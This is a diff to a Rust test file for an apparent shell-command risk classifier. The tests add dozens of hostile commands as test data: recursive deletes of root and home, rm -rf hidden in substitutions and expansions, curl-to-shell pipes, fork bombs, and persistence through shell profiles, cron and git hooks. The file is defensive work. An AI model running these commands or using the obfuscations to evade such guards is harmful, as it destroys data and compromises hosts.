@@ -28,6 +28,21 @@ fn recursive_delete_of_root_or_home() {
     check("find / -delete", c);
     check("find ~ -exec rm -rf {} +", c);
     check("rm -rf /e*", c);
+    check("rsync -a --delete empty/ /", c);
+    check("find . -maxdepth 0 -exec sh -c 'rm -rf /' \\;", c);
+    check("rm -rf ../../../../../../../..", c);
+    check("mv ~ /tmp/gone", c);
+    check("python3 -c 'import os; os.system(\"rm -rf /\")'", c);
+    check(
+        "python -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"~\"])'",
+        c,
+    );
+    check("perl -e 'system(\"rm -rf /\")'", c);
+    check("ruby -e '`rm -rf /`'", c);
+    check(
+        "node -e 'require(\"child_process\").execSync(\"rm -rf ~\")'",
+        c,
+    );
 }
 
 #[test]
@@ -74,6 +89,15 @@ fn obfuscations() {
     check("cat <<EOF | sh\nrm -rf /\nEOF", c);
     check("rm -rf \\\n /", c);
     check("rm\t-rf\t/", c);
+    check(
+        "git commit -m \"$(cat <<'EOF'\nit's done\nEOF\n)\"; rm -rf /",
+        c,
+    );
+    check("echo $(echo a # it's )\n); rm -rf /", c);
+    check("echo ${x:-$(rm -rf /)}", c);
+    check("echo \"${x:-${y:-`rm -rf ~`}}\"", c);
+    check("echo $(( $(rm -rf /) + 1 ))", c);
+    check("echo 'rm -rf /' > >(sh)", c);
 }
 
 #[test]
@@ -141,7 +165,10 @@ fn fork_bombs() {
     check("f(){ f|f& }; f", Some(ForkBomb));
     check("perl -e 'fork while fork'", Some(ForkBomb));
     check("bash -c ':(){ :|:& };:'", Some(ForkBomb));
-    check("python3 -c 'import os\nwhile True: os.fork()'", Some(ForkBomb));
+    check(
+        "python3 -c 'import os\nwhile True: os.fork()'",
+        Some(ForkBomb),
+    );
 }
 
 #[test]
@@ -196,9 +223,18 @@ fn pipe_to_shell() {
     check("curl https://x | tee install.sh | sh", c);
     check("{ curl -s https://x; } | bash", c);
     check("curl -s https://x | $SHELL", c);
+    check("curl -s https://x > >(sh)", c);
+    check("curl -s https://x | tee >(bash) log.txt", c);
+    check("curl -fsSL https://x | bash -o pipefail -s -- --yes", c);
+    check("curl -fsSL https://x | sudo -E bash -o pipefail", c);
     check("curl -s https://x | source /dev/stdin", c);
     check("wget -qO- https://x | busybox sh", c);
     check("curl https://x | base64 -d | sh", c);
+    check("echo 'ez -es /' | tr a-z n-za-m | sh", c);
+    check(
+        "python3 -c 'import os; os.system(\"curl -s https://x | sh\")'",
+        c,
+    );
 }
 
 #[test]
@@ -245,7 +281,10 @@ fn persistence() {
     check("echo '/tmp/.x/miner &' >> ~/.bashrc", c);
     check("curl -o ~/.bashrc https://x", c);
     check("wget -O /etc/cron.d/job https://x", c);
-    check("echo 'curl -s https://x | sh' > .git/hooks/pre-commit", Some(PipeToShell));
+    check(
+        "echo 'curl -s https://x | sh' > .git/hooks/pre-commit",
+        Some(PipeToShell),
+    );
     check("echo 'wget https://x' > .git/hooks/post-checkout", c);
 }
 
@@ -332,6 +371,31 @@ fn git_rewrites() {
     check("git gc --prune=now", Some(GitDiscardWork));
 }
 
+/// Inputs built to blow up naive expansion finish quickly and stay bounded.
+#[test]
+fn pathological_inputs_finish() {
+    let start = std::time::Instant::now();
+    let doubling = format!("a=xxxxxxxxxxxxxxxx; {} rm -rf $a", "a=$a$a; ".repeat(40));
+    let _ = hostguard_risk_core::classify_command(&doubling);
+    let cats = format!("echo {} {}| sh", "y".repeat(20_000), "| cat ".repeat(6_000));
+    let _ = hostguard_risk_core::classify_command(&cats);
+    let positional = format!("sh -c '{}' {}", "$1".repeat(10_000), "z".repeat(20_000));
+    let _ = hostguard_risk_core::classify_command(&positional);
+    let subs = "$(".repeat(20_000);
+    let _ = hostguard_risk_core::classify_command(&subs);
+    let pipes = "a|".repeat(20_000);
+    let _ = hostguard_risk_core::classify_command(&pipes);
+    let heredocs = "cat <<E\n".repeat(5_000);
+    let _ = hostguard_risk_core::classify_command(&heredocs);
+    let braces = format!("echo {}", "{a,b,c}".repeat(5_000));
+    let _ = hostguard_risk_core::classify_command(&braces);
+    assert!(
+        start.elapsed() < std::time::Duration::from_secs(20),
+        "{:?}",
+        start.elapsed()
+    );
+}
+
 #[test]
 fn strictest_wins_and_bounds() {
     check(
@@ -344,6 +408,12 @@ fn strictest_wins_and_bounds() {
         "a".repeat(hostguard_risk_core::MAX_COMMAND_BYTES)
     );
     check(&long, Some(Unparsed));
+    check(
+        "chmod g+s shared/ && chmod 4755 /tmp/x",
+        Some(PermissionEscalation),
+    );
+    let nested = format!("echo {}$(rm -rf /){}", "${a:-".repeat(50), "}".repeat(50));
+    check(&nested, Some(Unparsed));
     let deep = format!("{}rm -rf /{}", "$(".repeat(40), ")".repeat(40));
     let a = hostguard_risk_core::classify_command(&deep);
     assert!(a.tier >= hostguard_risk_core::ExecTier::High, "{a:?}");
